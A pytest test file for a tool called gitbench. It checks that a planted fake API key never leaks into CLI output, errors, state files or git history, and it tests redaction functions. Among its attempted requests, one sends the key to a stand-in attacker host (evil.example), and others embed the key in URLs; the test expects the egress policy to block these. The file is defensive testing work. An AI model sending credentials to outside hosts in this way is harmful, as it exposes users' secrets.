"""A planted API key must not appear in anything gitbench writes or prints (invariant 8)."""

from __future__ import annotations

import json
from pathlib import Path

import httpx
import pytest

from gitbench.errors import GitbenchError
from gitbench.policy.redact import MASK, redact, redact_value
from gitbench.services.session import record_failure
from gitbench.services.wiring import egress_client
from gitbench.store.repo import Workbench
from tests.support.cli import run
from tests.support.gitcli import git
from tests.support.provider_server import ProviderServer, Reply

KEY = "sk-test-PLANTED0123456789abcdefXYZ"
MODEL = "gpt-test"


def _attempts(provider: ProviderServer) -> list[tuple[str, dict[str, str]]]:
    auth = {"authorization": f"Bearer {KEY}", "x-api-key": KEY}
    return [
        (f"{provider.url}/v1/chat?key={KEY}", auth),  # allowed
        (f"https://127.0.0.1:{provider.port}/v1/chat?key={KEY}", auth),
        (f"https://{KEY}@localhost:{provider.port}/v1/chat", auth),
        (f"http://localhost:{provider.port}/v1/chat?key={KEY}", auth),
        (f"https://evil.example/{KEY}?key={KEY}", auth),
        (f"{provider.url}/v1/dropped?key={KEY}", auth),  # the server hangs up
    ]


def test_a_planted_key_appears_nowhere(
    bench_path: Path, wb: Workbench, provider: ProviderServer
) -> None:
    written: list[str] = []
    for base_url in (f"{provider.url}/v1?key={KEY}", f"https://{KEY}@localhost/v1"):
        refused = run(bench_path, "--json", "consent", "grant", "--provider", "openai",
                      "--model", MODEL, "--yes", "--base-url", base_url)  # fmt: skip
        assert refused.exit_code != 0
        written += [refused.stdout, refused.stderr]
    granted = run(bench_path, "--json", "consent", "grant", "--provider", "openai", "--model",
                  MODEL, "--yes", "--persist", "--base-url", provider.url + "/v1")  # fmt: skip
    assert granted.exit_code == 0
    provider.reply_json({"ok": True})
    provider.reply(Reply(drop=True))
    with egress_client(wb, provider="openai", model=MODEL, ca_bundle=provider.ca_pem) as client:
        for url, headers in _attempts(provider):
            try:
                client.post(url, headers=headers, json={"prompt": "the secret plan"})
            except GitbenchError as err:
                record_failure(wb, "workshop", err)  # what a model command does with it
                written += [str(err), repr(err), json.dumps(err.to_dict())]
            except httpx.HTTPError as err:
                written += [str(err), repr(err)]
    assert KEY in provider.requests[0].headers["authorization"]  # it did reach the provider
    for args in (["consent"], ["egress", "log"], ["failures"], ["status"]):
        for mode in ([], ["--json"]):
            done = run(bench_path, *mode, *args)
            written += [done.stdout, done.stderr]
    state = bench_path / ".git" / "gitbench"
    written += [p.read_text(errors="replace") for p in state.rglob("*") if p.is_file()]
    history = git("log", "--all", "-p", "--notes=gitbench/failures", cwd=bench_path)
    assert "EGRESS_BLOCKED_BY_POLICY" in history  # the failure notes were written and read
    written.append(history)
    assert len(written) > 20
    leaks = [text for text in written if KEY in text or "PLANTED0123456789" in text]
    assert leaks == []
    assert "the secret plan" not in "".join(written)


def test_redact_masks_known_secrets_and_key_shapes() -> None:
    text = (
        f"auth failed for {KEY}; Bearer abcdefghijkl0123; key=AIza{'x' * 30}; mine=hunter2hunter2"
    )
    masked = redact(text, secrets=["hunter2hunter2"])
    assert KEY not in masked and "abcdefghijkl0123" not in masked and "hunter2" not in masked
    assert "AIza" not in masked
    assert masked.count(MASK) == 4


def test_redact_value_walks_json_documents() -> None:
    document = {"error": {"message": f"bad key {KEY}", "codes": [KEY, 3]}, KEY: None}
    masked = redact_value(document)
    assert KEY not in json.dumps(masked)
    assert masked["error"]["codes"] == [MASK, 3]


@pytest.mark.parametrize("text", ["sk-short", "task-force", "plain text"])
def test_redact_leaves_ordinary_text_alone(text: str) -> None:
    assert redact(text) == text
